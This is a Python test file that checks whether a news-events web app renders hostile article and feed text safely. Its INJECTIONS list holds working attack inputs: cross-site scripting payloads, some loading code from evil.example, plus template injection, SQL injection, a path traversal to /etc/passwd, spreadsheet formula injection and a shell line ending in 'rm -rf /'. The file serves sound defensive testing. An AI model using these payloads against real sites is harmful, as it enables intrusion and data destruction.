"""Text from articles and feeds is foreign: whatever stands in it, the page shows it and nothing else happens."""

import re
from urllib.parse import quote

import pytest
from lxml import html
from making import make_account, make_article, make_figure, make_position, make_reading, make_statement
from serve.conftest import kept
from starlette.testclient import TestClient

from dragoman.records import Party, Place
from dragoman.serve import Settings, create_app

INJECTIONS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<embed src='//evil.example/x.swf'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<form action='//evil.example'><input name=x></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "{{ 7 * 7 }}",
    "{% raw %}{{ config }}{% endraw %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "javascript:alert(1)//",
    "java\tscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "'; DROP TABLE events; --",
    "\" OR 1=1 --",
    "NEAR(\"a\" b) AND *",
    "../../../../etc/passwd",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "+cmd|' /C calc'!A0",
    "\u202egnp.exe \u2066x\u2069",
    "`id` $(id) ; rm -rf /",
]  # fmt: skip
TAGS = set(
    "a article b bdi blockquote body br button caption cite code dd del details div dl dt figcaption figure "
    "footer form h1 h2 h3 head header html input ins label li link main mark meta nav noscript ol option p q "
    "script section select span strong summary table tbody td textarea th thead title tr ul".split()
)
DRAWN = {"svg", "g", "path", "text", "use", "defs", "clippath", "rect", "title", "desc", "circle", "line", "tspan"}


def hostile(evil, number):
    """A reading in which every field that a page shows is hostile."""
    text = f"The minister of {evil} spoke by phone with {evil} about {evil}. At least 21 people were killed there."
    article = make_article(
        text, f"{evil}-{number}", source=evil, title=evil, url=evil, published="2022-03-10", country=None
    )
    parties = (Party(evil, evil, "UKR", "GOV", evil), Party(f"{evil} B", evil, evil[:12], None, None))
    account = make_account(
        article,
        "spoke by phone",
        parties=parties,
        source=parties[:1],
        place=Place(evil, evil[:12], 1.0, 2.0, "city"),
        said_by=evil,
        date=("2022-03-10", "2022-03-10"),
        date_text=evil,
        outcome="agreed",
        outcome_text=evil,
    )
    statement = make_statement(
        article, "spoke by phone", "killed there", speaker=parties, addressee=parties, cue=evil
    )
    position = make_position(article, "spoke by phone", evil, holder=parties)
    figure = make_figure(article, "At least 21 people were killed", 21, of=evil, where=evil, said_by=evil,
                         as_of="2022-03-10")  # fmt: skip
    return make_reading(article, account, figure, statement, position)


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    readings = [hostile(evil, number) for number, evil in enumerate(INJECTIONS)]
    path = kept(tmp_path_factory.mktemp("hostile") / "record.dragoman", *readings)
    with TestClient(create_app(Settings(str(path), private=True)), raise_server_exceptions=False) as site:
        yield site


def looked_at(answer):
    """The page, after seeing that it holds no element, attribute or address that our templates do not write."""
    assert answer.status_code in (200, 400, 404), answer.text[:500]
    page = html.document_fromstring(answer.text)
    for element in page.iter():
        if not isinstance(element.tag, str):
            continue
        drawn = element.tag == "svg" or any(above.tag == "svg" for above in element.iterancestors())
        assert element.tag in (DRAWN if drawn else TAGS), html.tostring(element)[:300]
        for name, value in element.attrib.items():
            assert not name.startswith("on"), html.tostring(element)[:300]
            if name in ("href", "src", "action"):
                assert re.match(r"/(?!/)|#|\?|https://courier\.example/|data:,$", value), (name, value)
    assert [script.get("src") for script in page.iter("script")] in ([], ["/static/live.js"])
    assert not page.xpath("//script[normalize-space()]")
    assert "49" not in (page.findtext(".//title") or "")
    return page


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/timeline",
        "/network",
        "/map",
        "/figures",
        "/calendar",
        "/ledger",
        "/statements",
        "/statements?kind=position",
        "/sources",
        "/actors",
        "/about",
        "/actor/UKR",
        "/dyad/UKR/RUS",
    ],
)
def test_pages_of_a_hostile_record_hold_only_what_we_wrote(hostile_site, path):
    looked_at(hostile_site.get(path))


def test_every_event_page_of_a_hostile_record_holds_only_what_we_wrote(hostile_site):
    found, after = set(), None
    while True:
        answer = hostile_site.get("/api/v1/events", params={"limit": 200, **({"after": after} if after else {})})
        found |= {row["id"] for row in answer.json()["rows"]}
        if (after := answer.json()["next"]) is None:
            break
    assert len(found) >= len(INJECTIONS)
    for event in sorted(found):
        page = looked_at(hostile_site.get(f"/event/{event}"))
        assert page.xpath("//mark")
        assert hostile_site.get(f"/event/{event}.txt").headers["content-type"].startswith("text/plain")


def test_every_article_page_of_a_hostile_record_holds_only_what_we_wrote(hostile_site):
    found, after = set(), None
    while True:
        answer = hostile_site.get("/api/v1/articles", params={"limit": 200, **({"after": after} if after else {})})
        found |= {row["id"] for row in answer.json()["rows"]}
        if (after := answer.json()["next"]) is None:
            break
    for article in sorted(found):
        looked_at(hostile_site.get("/article/" + quote(article)))


@pytest.mark.parametrize("evil", INJECTIONS)
def test_hostile_addresses_get_a_page_that_holds_only_what_we_wrote(hostile_site, evil):
    for path in ("/timeline", "/feed.json", "/ledger", "/statements"):
        for name in ("actor", "place", "words", "since", "type", "after", "matter", "state"):
            answer = hostile_site.get(path, params={name: evil})
            assert answer.status_code in (200, 400)
            if path != "/feed.json":
                looked_at(answer)
    for path in ("/actor/", "/dyad/x/", "/event/", "/article/"):
        answer = hostile_site.get(path + evil.replace("?", "").replace("#", "").replace("\t", ""))
        assert answer.status_code < 500
        if "html" in answer.headers.get("content-type", ""):
            looked_at(answer)


def test_records_that_are_hostile_stay_what_they_are_in_the_api(hostile_site):
    answer = hostile_site.get("/api/v1/accounts?limit=200")
    assert answer.headers["content-type"] == "application/json"
    names = {party["name"] for row in answer.json()["rows"] for party in row["parties"]}
    assert set(INJECTIONS) <= names  # given as they are, as data
